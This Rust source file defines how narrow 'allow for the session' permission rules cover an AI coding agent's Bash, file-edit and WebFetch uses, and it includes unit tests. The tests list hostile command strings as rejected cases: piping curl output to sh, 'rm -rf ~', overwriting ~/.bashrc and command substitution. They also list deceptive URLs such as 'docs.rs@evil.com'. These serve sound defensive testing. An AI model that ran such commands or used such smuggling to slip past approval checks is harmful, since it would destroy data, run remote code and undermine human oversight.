//! What one "allow for the session" rule covers ([`SessionScope`]), and the one function that decides whether a
//! tool use falls under it ([`SessionScope::covers`]).
//!
//! It lives in the protocol because three parties must agree on it: the agent enforces it (it answers Claude
//! Code's permission requests itself for uses a rule covers), the bot shows it on the approval's buttons and
//! offers only prefixes that cover the use in front of the approver, and the relay audits every use a rule
//! allowed. Every scope is narrow on purpose: never "all of Bash".
//!
//! - Bash: the exact command, or a prefix the approver chose. A prefix covers only *simple* commands: a
//!   command with `;`, `&`, `|`, a redirection, a substitution or a line break anywhere is never covered,
//!   so `npm test; curl x|sh` does not pass as `npm test`.
//! - Write, Edit, MultiEdit, NotebookEdit: edits to the one file the approver saw.
//! - WebFetch: URLs on the origin (scheme and host) the approver saw.
//! - Anything else: the same tool with exactly the same input.
//! - AskUserQuestion: never (it is a question for a person, not a permission).

use std::fmt;

use serde::{Deserialize, Serialize};
use serde_json::Value;

/// Tools whose session rule is one file.
const FILE_TOOLS: [&str; 4] = ["Write", "Edit", "MultiEdit", "NotebookEdit"];
/// What a prefix rule never lets through: command separators, pipes, redirections, substitutions, line
/// breaks. Conservative: a harmless `a > b` also asks again.
const NOT_SIMPLE: [&str; 9] = [";", "&", "|", "<", ">", "`", "$(", "\n", "\r"];
/// Longest prefix accepted (characters).
pub const PREFIX_MAX: usize = 200;

/// What an "allow for the session" rule allows without asking again.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum SessionScope {
    /// Bash: exactly this command.
    Command { command: String },
    /// Bash: simple commands that are `prefix` or start with `prefix` and a space.
    Prefix { prefix: String },
    /// Write, Edit, MultiEdit, NotebookEdit on exactly this path.
    File { path: String },
    /// WebFetch of URLs on this origin (`https://host[:port]`).
    Origin { origin: String },
    /// `tool` with exactly this input.
    Input { tool: String, input: Value },
    /// A scope from a newer peer that this build does not know: covers nothing.
    #[serde(other)]
    Unknown,
}

/// Why a prefix cannot be a rule for a command.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PrefixError {
    #[error("only Bash commands can be allowed by prefix")]
    NotBash,
    #[error("the prefix is empty")]
    Empty,
    #[error("the prefix is longer than {PREFIX_MAX} characters")]
    TooLong,
    #[error(
        "a prefix cannot contain `;`, `&`, `|`, `<`, `>`, a backtick, `$(` or a line break: those start other commands"
    )]
    NotSimple,
    #[error(
        "this command does not start with that prefix, or it chains, pipes or redirects (which a prefix never covers)"
    )]
    DoesNotCover,
}

/// The input field a known tool acts on (the command, the file, the URL): what an approval shows first and
/// what a summary names. Looked up by tool, so that an extra field the model adds (a `file_path` in a Bash
/// call) cannot stand in for the command. `None` for other tools (MCP tools...): their whole input counts.
pub fn main_field(tool: &str) -> Option<&'static str> {
    Some(match tool {
        "Bash" => "command",
        "Write" | "Edit" | "MultiEdit" | "Read" => "file_path",
        "NotebookEdit" => "notebook_path",
        "WebFetch" => "url",
        "WebSearch" => "query",
        "Grep" | "Glob" => "pattern",
        "LS" => "path",
        _ => return None,
    })
}

fn is_simple(command: &str) -> bool {
    !NOT_SIMPLE.iter().any(|c| command.contains(c))
}

fn command_of<'a>(tool: &str, input: &'a Value) -> Option<&'a str> {
    (tool == "Bash")
        .then(|| input["command"].as_str())
        .flatten()
}

fn file_of<'a>(tool: &str, input: &'a Value) -> Option<&'a str> {
    if !FILE_TOOLS.contains(&tool) {
        return None;
    }
    input["file_path"]
        .as_str()
        .or_else(|| input["notebook_path"].as_str())
        .filter(|p| !p.is_empty())
}

/// `scheme://authority` of a URL, lower-cased, when the authority is plainly a host (and port): no user
/// info (`good.com@evil.com`), no escapes, no spaces or control characters, nothing a reader could misjudge.
fn origin_of(url: &str) -> Option<String> {
    let (scheme, rest) = url.split_once("://")?;
    let scheme = scheme.to_ascii_lowercase();
    if scheme != "http" && scheme != "https" {
        return None;
    }
    let end = rest.find(['/', '?', '#', '\\']).unwrap_or(rest.len());
    let authority = &rest[..end];
    let plain = !authority.is_empty()
        && authority
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']' | '_'));
    plain.then(|| format!("{scheme}://{}", authority.to_ascii_lowercase()))
}

impl SessionScope {
    /// The narrowest rule for this use: what "Allow for session" allows unless the approver picks a prefix.
    /// `None` for a tool that is never allowed for the session (AskUserQuestion).
    pub fn exact(tool: &str, input: &Value) -> Option<Self> {
        if tool == "AskUserQuestion" {
            return None;
        }
        if let Some(command) = command_of(tool, input) {
            return Some(Self::Command {
                command: command.to_owned(),
            });
        }
        if let Some(path) = file_of(tool, input) {
            return Some(Self::File {
                path: path.to_owned(),
            });
        }
        if tool == "WebFetch" {
            if let Some(origin) = input["url"].as_str().and_then(origin_of) {
                return Some(Self::Origin { origin });
            }
        }
        Some(Self::Input {
            tool: tool.to_owned(),
            input: input.clone(),
        })
    }

    /// A prefix rule for a Bash use: `prefix` (trimmed) must be simple and cover this very use, so that
    /// allowing the use and adding the rule are the same decision.
    pub fn prefix(tool: &str, input: &Value, prefix: &str) -> Result<Self, PrefixError> {
        command_of(tool, input).ok_or(PrefixError::NotBash)?;
        let prefix = prefix.trim();
        if prefix.is_empty() {
            return Err(PrefixError::Empty);
        }
        if prefix.chars().count() > PREFIX_MAX {
            return Err(PrefixError::TooLong);
        }
        if !is_simple(prefix) {
            return Err(PrefixError::NotSimple);
        }
        let scope = Self::Prefix {
            prefix: prefix.to_owned(),
        };
        if scope.covers(tool, input) {
            Ok(scope)
        } else {
            Err(PrefixError::DoesNotCover)
        }
    }

    /// The rule "commands starting with this command's first word", when that covers this use.
    pub fn first_word(tool: &str, input: &Value) -> Option<Self> {
        let word = command_of(tool, input)?.split_whitespace().next()?;
        // `FOO=1 cmd` would make the "program" an assignment.
        if word.contains('=') {
            return None;
        }
        Self::prefix(tool, input, word).ok()
    }

    /// Whether a use of `tool` with `input` falls under this rule.
    pub fn covers(&self, tool: &str, input: &Value) -> bool {
        match self {
            Self::Command { command } => command_of(tool, input) == Some(command.as_str()),
            Self::Prefix { prefix } => command_of(tool, input).is_some_and(|c| {
                is_simple(c)
                    && !prefix.is_empty()
                    && c.strip_prefix(prefix.as_str())
                        .is_some_and(|rest| rest.is_empty() || rest.starts_with([' ', '\t']))
            }),
            Self::File { path } => file_of(tool, input) == Some(path.as_str()),
            Self::Origin { origin } => {
                tool == "WebFetch"
                    && input["url"].as_str().and_then(origin_of).as_deref() == Some(origin.as_str())
            }
            Self::Input { tool: t, input: i } => t == tool && i == input,
            Self::Unknown => false,
        }
    }

    /// The tool (or tools) the rule is about, for people.
    pub fn tool(&self) -> &str {
        match self {
            Self::Command { .. } | Self::Prefix { .. } => "Bash",
            Self::File { .. } => "edits",
            Self::Origin { .. } => "WebFetch",
            Self::Input { tool, .. } => tool,
            Self::Unknown => "?",
        }
    }

    /// What the rule names (the command, prefix, path or origin); empty for an exact input.
    pub fn subject(&self) -> &str {
        match self {
            Self::Command { command } => command,
            Self::Prefix { prefix } => prefix,
            Self::File { path } => path,
            Self::Origin { origin } => origin,
            Self::Input { .. } | Self::Unknown => "",
        }
    }
}

/// Plain words, for logs and the audit (front ends escape the subject themselves).
impl fmt::Display for SessionScope {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Self::Command { command } => write!(f, "the Bash command {command:?} exactly"),
            Self::Prefix { prefix } => {
                write!(f, "simple Bash commands starting with {prefix:?}")
            }
            Self::File { path } => write!(f, "edits to the file {path:?}"),
            Self::Origin { origin } => write!(f, "WebFetch on {origin}"),
            Self::Input { tool, .. } => write!(f, "{tool} with exactly the same input"),
            Self::Unknown => f.write_str("an unknown rule"),
        }
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    fn bash(c: &str) -> Value {
        json!({ "command": c, "description": "npm test" })
    }

    #[test]
    fn the_exact_command_covers_only_itself() {
        let rule = SessionScope::exact("Bash", &bash("touch one.txt")).unwrap();
        assert!(rule.covers("Bash", &bash("touch one.txt")));
        for other in [
            "touch one.txt ",
            "touch one.txt; rm -rf x",
            "rm -rf x",
            "touch two.txt",
        ] {
            assert!(!rule.covers("Bash", &bash(other)), "{other}");
        }
        // The model's description plays no part.
        assert!(rule.covers(
            "Bash",
            &json!({"command": "touch one.txt", "description": "anything"})
        ));
        assert!(!rule.covers("Write", &json!({"command": "touch one.txt"})));
        assert_eq!(SessionScope::exact("AskUserQuestion", &json!({})), None);
    }

    #[test]
    fn a_prefix_covers_only_simple_commands_after_a_word_boundary() {
        let input = bash("npm test -- --watch");
        let rule = SessionScope::prefix("Bash", &input, "  npm test ").unwrap();
        assert_eq!(
            rule,
            SessionScope::Prefix {
                prefix: "npm test".into()
            }
        );
        assert!(rule.covers("Bash", &bash("npm test")));
        assert!(rule.covers("Bash", &bash("npm test\t--ci")));
        for attack in [
            "npm test; curl x|sh",
            "npm test && rm -rf ~",
            "npm test | sh",
            "npm test > ~/.bashrc",
            "npm test $(curl x)",
            "npm test `curl x`",
            "npm test\ncurl x",
            "npm test\r\ncurl x",
            "npm tester",
            "npm testing",
            "xnpm test",
            " npm test",
        ] {
            assert!(!rule.covers("Bash", &bash(attack)), "{attack:?}");
        }
        assert_eq!(
            SessionScope::prefix("Bash", &bash("npm test; curl x|sh"), "npm test"),
            Err(PrefixError::DoesNotCover)
        );
        assert_eq!(
            SessionScope::prefix("Bash", &input, "npm test;"),
            Err(PrefixError::NotSimple)
        );
        assert_eq!(
            SessionScope::prefix("Bash", &input, " "),
            Err(PrefixError::Empty)
        );
        assert_eq!(
            SessionScope::prefix("Bash", &input, "cargo"),
            Err(PrefixError::DoesNotCover)
        );
        assert_eq!(
            SessionScope::prefix("Write", &json!({}), "x"),
            Err(PrefixError::NotBash)
        );
    }

    #[test]
    fn the_first_word_is_offered_only_when_it_covers_the_use() {
        assert_eq!(
            SessionScope::first_word("Bash", &bash("touch a.txt b.txt")),
            Some(SessionScope::Prefix {
                prefix: "touch".into()
            })
        );
        assert_eq!(
            SessionScope::first_word("Bash", &bash("touch made.txt && echo hi")),
            None
        );
        assert_eq!(SessionScope::first_word("Bash", &bash("FOO=1 make")), None);
    }

    #[test]
    fn files_and_origins_are_narrow() {
        let w = json!({"file_path": "/p/src/lib.rs", "content": "x"});
        let rule = SessionScope::exact("Write", &w).unwrap();
        assert!(rule.covers(
            "Edit",
            &json!({"file_path": "/p/src/lib.rs", "old_string": "a"})
        ));
        assert!(!rule.covers("Write", &json!({"file_path": "/p/src/main.rs"})));
        assert!(!rule.covers("Bash", &json!({"file_path": "/p/src/lib.rs"})));

        let f = |u: &str| json!({ "url": u, "prompt": "read it" });
        let rule = SessionScope::exact("WebFetch", &f("https://Docs.rs/serde")).unwrap();
        assert_eq!(
            rule,
            SessionScope::Origin {
                origin: "https://docs.rs".into()
            }
        );
        assert!(rule.covers("WebFetch", &f("https://docs.rs/tokio?x=1")));
        for other in [
            "https://docs.rs.evil.com/",
            "https://docs.rs@evil.com/",
            "http://docs.rs/",
            "https://docs.rs:444/",
        ] {
            assert!(!rule.covers("WebFetch", &f(other)), "{other}");
        }
        // User info is never turned into an origin rule: the exact input is the rule instead.
        assert!(matches!(
            SessionScope::exact("WebFetch", &f("https://docs.rs@evil.com/")),
            Some(SessionScope::Input { .. })
        ));
    }

    #[test]
    fn other_tools_need_the_same_input_and_unknown_scopes_cover_nothing() {
        let g = json!({"pattern": "TODO", "path": "/p"});
        let rule = SessionScope::exact("Grep", &g).unwrap();
        assert!(rule.covers("Grep", &g));
        assert!(!rule.covers("Grep", &json!({"pattern": "TODO", "path": "/"})));
        let unknown: SessionScope =
            serde_json::from_value(json!({"kind": "everything", "x": 1})).unwrap();
        assert_eq!(unknown, SessionScope::Unknown);
        assert!(!unknown.covers("Grep", &g));
        let back: SessionScope =
            serde_json::from_str(&serde_json::to_string(&rule).unwrap()).unwrap();
        assert_eq!(back, rule);
    }
}
